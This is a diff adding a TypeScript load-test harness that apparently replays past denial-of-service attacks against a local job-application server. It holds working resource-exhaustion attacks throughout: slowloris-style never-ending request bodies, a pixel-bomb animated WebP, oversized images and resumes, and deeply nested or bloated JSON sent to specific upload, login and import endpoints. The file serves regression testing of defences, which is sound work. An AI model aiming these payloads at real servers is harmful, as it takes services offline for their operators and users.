@@ -1,0 +1,271 @@
+import { Agent, request } from 'node:http'
+import { connect } from 'node:net'
+import sharp from 'sharp'
+
+/** Sends to one server, from a loopback address of the sender's own. */
+export interface Sender {
+  port: number
+  from: string
+  cookie?: string
+}
+
+const BOUNDARY = 'a-line-between-parts'
+const multipart = `multipart/form-data; boundary=${BOUNDARY}`
+const part = (name: string, content: Buffer, filename?: string): Buffer =>
+  Buffer.concat([
+    Buffer.from(
+      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"\r\nContent-Type: application/octet-stream` : ''}\r\n\r\n`,
+    ),
+    content,
+    Buffer.from('\r\n'),
+  ])
+export const formOf = (...parts: Buffer[]): Buffer =>
+  Buffer.concat([...parts, Buffer.from(`--${BOUNDARY}--\r\n`)])
+
+const agents = new Map<string, Agent>()
+const agentFrom = (from: string): Agent => {
+  const agent = agents.get(from) ?? new Agent({ keepAlive: true, localAddress: from, maxSockets: 64 })
+  agents.set(from, agent)
+  return agent
+}
+
+/** One request; answers its status, 0 where the connection was ended without one. */
+export const send = (
+  { port, from, cookie }: Sender,
+  method: string,
+  path: string,
+  type: string,
+  body: Buffer | string,
+): Promise<number> =>
+  new Promise((resolve) => {
+    const headers = {
+      'content-type': type,
+      'content-length': Buffer.byteLength(body),
+      ...(cookie ? { cookie } : {}),
+    }
+    const sent = request(
+      { host: '127.0.0.1', port, method, path, headers, agent: agentFrom(from), timeout: 60_000 },
+      (response) => {
+        response.resume()
+        response.on('end', () => resolve(response.statusCode ?? 0))
+        response.on('error', () => resolve(response.statusCode ?? 0))
+      },
+    )
+    sent.on('timeout', () => sent.destroy())
+    sent.on('error', () => resolve(0))
+    sent.end(body)
+  })
+
+/** A request whose body never ends: its beginning, then a byte now and then. */
+const dribble = (
+  { port, from, cookie }: Sender,
+  path: string,
+  type: string,
+  begin: Buffer,
+  until: Promise<unknown>,
+  length = 10_500_000,
+): Promise<number> =>
+  new Promise((resolve) => {
+    const socket = connect({ port, host: '127.0.0.1', localAddress: from })
+    let heard = ''
+    const timer = setInterval(() => socket.write(' '), 10_000)
+    socket.on('error', () => {})
+    socket.on('data', (bytes) => {
+      heard += bytes.toString('latin1')
+    })
+    socket.on('close', () => {
+      clearInterval(timer)
+      resolve(Number(/^HTTP\/1\.1 (\d+)/.exec(heard)?.[1] ?? 0))
+    })
+    const head = [
+      `POST ${path} HTTP/1.1`,
+      'Host: localhost',
+      `Content-Type: ${type}`,
+      `Content-Length: ${length}`,
+    ]
+    socket.write(`${[...head, ...(cookie ? [`Cookie: ${cookie}`] : []), '', ''].join('\r\n')}`)
+    socket.write(begin)
+    void until.then(() => socket.destroy())
+  })
+
+const noise = (bytes: number): Buffer => {
+  const buffer = Buffer.alloc(bytes)
+  let state = 1
+  for (let n = 0; n < bytes; n++) {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
+    buffer[n] = state >>> 24
+  }
+  return buffer
+}
+
+const le = (value: number, bytes: number): Buffer => {
+  const buffer = Buffer.alloc(bytes)
+  buffer.writeUIntLE(value, 0, bytes)
+  return buffer
+}
+const riff = (type: string, data: Buffer): Buffer =>
+  Buffer.concat([Buffer.from(type), le(data.length, 4), data, Buffer.alloc(data.length % 2)])
+
+/** Few bytes, many frames. */
+const animation = async (width: number, height: number, frames: number): Promise<Buffer> => {
+  const still = async (background: string) =>
+    (
+      await sharp({ create: { width, height, channels: 3, background } })
+        .webp()
+        .toBuffer()
+    ).subarray(12)
+  const shades = [await still('#c2410c'), await still('#0c41c2')]
+  const size = Buffer.concat([le(width - 1, 3), le(height - 1, 3)])
+  const frame = (n: number) =>
+    riff('ANMF', Buffer.concat([Buffer.alloc(6), size, le(100, 3), Buffer.alloc(1), shades[n % 2]!]))
+  const shown = Array.from({ length: frames }, (_, n) => frame(n))
+  const head = riff('VP8X', Buffer.concat([le(2, 4), size]))
+  return riff('RIFF', Buffer.concat([Buffer.from('WEBP'), head, riff('ANIM', Buffer.alloc(6)), ...shown]))
+}
+
+const job = (description: string): string => JSON.stringify([{ key: 'a', title: 'A job', description }])
+const membersOf = (count: number): string =>
+  `{${Array.from({ length: count }, (_, n) => `"m${n}":1`).join(',')}}`
+const importOf = (text: string): Buffer =>
+  formOf(part('dry_run', Buffer.from('true')), part('jobsFile', Buffer.from(text), 'jobs.json'))
+
+/** What attackers have ready before they begin. */
+export const makeWeapons = async () => {
+  const scene = await sharp(noise(1200 * 1000 * 3), { raw: { width: 1200, height: 1000, channels: 3 } })
+    .resize(6000, 5000)
+    .jpeg({ quality: 30 })
+    .toBuffer()
+  return {
+    bomb: await animation(1000, 1000, 38),
+    photo: scene,
+    resume: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(10_000_000, 32)]),
+    imports: [
+      job('<a '.repeat(1_000_000)),
+      job('<'.repeat(50_000)),
+      `[${membersOf(1_500_000)}]`,
+      '['.repeat(24_000_000),
+    ].map(importOf),
+    bodies: [
+      JSON.stringify({ title: 'A job', description: '<'.repeat(50_000) }),
+      membersOf(80_000),
+      '['.repeat(1_000_000),
+    ],
+  }
+}
+export type Weapons = Awaited<ReturnType<typeof makeWeapons>>
+
+export interface Team {
+  port: number
+  opening: string
+  /** Cookies of students, and of members of an employer. */
+  students: string[]
+  employers: string[]
+  weapons: Weapons
+  /** Resolves when the attack is over. */
+  over: Promise<unknown>
+}
+
+export type Attack = (team: Team) => Promise<number[]>
+
+const JSON_TYPE = 'application/json'
+const ADDRESSES = ['127.0.1.1', '127.0.1.2', '127.0.1.3', '127.0.1.4']
+const at = (n: number): string => ADDRESSES[n % ADDRESSES.length]!
+const times = <T>(count: number, make: (n: number) => Promise<T>): Promise<T[]> =>
+  Promise.all(Array.from({ length: count }, (_, n) => make(n)))
+/** One after the other, until all are sent or the attack is over. */
+const inTurn = async (
+  count: number,
+  { over }: Team,
+  shot: (n: number) => Promise<number>,
+): Promise<number[]> => {
+  const statuses: number[] = []
+  let stopped = false
+  void over.then(() => {
+    stopped = true
+  })
+  for (let n = 0; n < count && !stopped; n++) statuses.push(await shot(n))
+  return statuses
+}
+
+const applyPath = ({ opening }: Team) => `/api/fairlead-career/detail/${opening}/apply`
+const picture = (name: string, bytes: Buffer) => part(name, bytes, 'me.jpg')
+const putUp = (team: Team, cookie: string, n: number, body: Buffer) =>
+  send({ port: team.port, from: at(n), cookie }, 'POST', '/api/student/auth/me/profile_pic', multipart, body)
+
+/** How the server was brought down before, each bounded in number. */
+export const attacks: Record<string, Attack> = {
+  'unfinished forms of strangers, 9 MB each': (team) =>
+    times(24, (n) => {
+      const begun = part('fairleadCareerFile', team.weapons.resume.subarray(0, 9_000_000), 'r.pdf')
+      return dribble({ port: team.port, from: at(n) }, applyPath(team), multipart, begun, team.over)
+    }),
+  'unfinished forms of students, 9 MB each': (team) =>
+    times(16, (n) => {
+      const begun = part('resumeFile', team.weapons.resume.subarray(0, 9_000_000), 'r.pdf')
+      const sender = { port: team.port, from: at(n), cookie: team.students[n % 4]! }
+      return dribble(sender, '/api/student/job/apply', multipart, begun, team.over)
+    }),
+  'a byte every ten seconds': (team) =>
+    times(50, (n) =>
+      dribble(
+        { port: team.port, from: at(n) },
+        '/api/student/auth/login',
+        JSON_TYPE,
+        Buffer.from('{'),
+        team.over,
+        9000,
+      ),
+    ),
+  'five pictures under one name': async (team) => {
+    const five = formOf(...Array<Buffer>(5).fill(picture('studentFile', team.weapons.bomb)))
+    return (await times(2, (n) => inTurn(6, team, (m) => putUp(team, team.students[4 + n]!, m, five)))).flat()
+  },
+  'animations of 38 million pixels': async (team) => {
+    const one = formOf(picture('studentFile', team.weapons.bomb))
+    return (await times(4, (n) => inTurn(8, team, (m) => putUp(team, team.students[6 + n]!, m, one)))).flat()
+  },
+  'pictures of 30 million pixels, sixteen at a time': async (team) => {
+    const one = formOf(picture('studentFile', team.weapons.photo))
+    return (
+      await times(16, (n) => inTurn(4, team, (m) => putUp(team, team.students[6 + (n % 4)]!, m, one)))
+    ).flat()
+  },
+  '40 resumes of 10 MB': async (team) => {
+    const one = formOf(part('resumeFile', team.weapons.resume, 'r.pdf'))
+    const shot = (m: number) =>
+      send(
+        { port: team.port, from: at(m), cookie: team.students[10]! },
+        'PUT',
+        '/api/student/auth/me',
+        multipart,
+        one,
+      )
+    return (await times(8, () => inTurn(5, team, shot))).flat()
+  },
+  '3 MB of "<a ", brackets and members in an import': async (team) => {
+    return inTurn(8, team, (n) =>
+      send(
+        { port: team.port, from: at(n), cookie: team.employers[n % team.employers.length]! },
+        'POST',
+        '/api/employer/job/import',
+        multipart,
+        team.weapons.imports[n % 4]!,
+      ),
+    )
+  },
+  'JSON of 50,000 "<", of members and of brackets': async (team) => {
+    return (
+      await times(3, (m) =>
+        inTurn(20, team, (n) =>
+          send(
+            { port: team.port, from: at(m), cookie: team.employers[m % team.employers.length]! },
+            'PUT',
+            '/api/employer_user/auth/me',
+            JSON_TYPE,
+            team.weapons.bodies[n % 3]!,
+          ),
+        ),
+      )
+    ).flat()
+  },
+}
